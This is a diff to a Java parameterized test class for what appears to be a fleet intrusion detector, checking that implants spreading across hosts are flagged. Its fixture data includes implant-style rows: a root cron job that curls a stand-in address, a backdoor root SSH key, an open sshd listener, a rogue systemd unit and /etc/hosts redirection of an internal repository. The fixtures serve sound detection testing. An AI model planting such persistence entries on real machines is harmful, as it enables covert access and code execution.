@@ -42,9 +42,49 @@ class SpreadingRowsTest extends WebProdTest {
   }
 
   @ParameterizedTest
-  @CsvSource({"8, 5", "12, 7", "16, 9"})
-  void oneNameWithAnotherAddressOnEachStaysOpenWhileFewerThanHalfOfTheOthersHaveIt(
-      int of, int attacked) {
+  @CsvSource({
+    "authorized_keys, username=root|key=AAAAevil%d",
+    "crontab,         path=/etc/cron.d/sync|command=root curl http://198.51.100.%d/x",
+    "listening_ports, port=44%d|address=0.0.0.0|protocol=6|name=sshd|path=/usr/sbin/sshd",
+    "systemd_units,   id=net-%d.service|active_state=active|fragment_path=/lib/systemd/net-%d",
+  })
+  void whoWasSeenCleanBeforeIsFoundToo(String query, String implant) {
+    hour(query, THREE_AM, 8, n -> false, implant);
+    hour(query, FOUR_AM, 8, n -> n < 3, implant);
+    hour(query, FIVE_AM, 8, n -> true, implant);
+    rig.end(FIVE_AM.plusSeconds(3600));
+
+    assertEquals(ids(8, n -> true), accused(rig.findings()));
+  }
+
+  /** The others show a row of that name, too; the intruder changed its address. */
+  @ParameterizedTest
+  @CsvSource({"8, 3, 3", "12, 8, 3", "16, 8, 3", "24, 8, 8", "40, 8, 8"})
+  void anotherAddressOnEachInPlaceOfTheUsualOne(int of, int attacked, int found) {
+    addresses(THREE_AM, of, 3);
+    addresses(FOUR_AM, of, attacked);
+    rig.end(FIVE_AM);
+
+    Set<String> accused = accused(rig.findings());
+    assertEquals(ids(of, n -> n < found), accused);
+  }
+
+  private void addresses(Instant from, int of, int attacked) {
+    int n = 0;
+    for (Instance host : instances(of)) {
+      String address = n < attacked ? "10.0.66." + (7 + n) : "10.0.9.5";
+      rig.observe(
+          Observation.of(
+              host,
+              "etc_hosts",
+              from.plusSeconds(60 + n++),
+              List.of(row("address", address, "hostnames", "repo.internal"))));
+    }
+  }
+
+  @ParameterizedTest
+  @CsvSource({"8, 5", "12, 7", "12, 8", "16, 9"})
+  void oneNameWithAnotherAddressOnEachStaysOpenWhileSomeOfTheOthersLackIt(int of, int attacked) {
     String implant = "address=198.51.100.%d|hostnames=repo.internal";
     hour("etc_hosts", THREE_AM, of, n -> n < 3, implant);
     hour("etc_hosts", FOUR_AM, of, n -> n < attacked, implant);
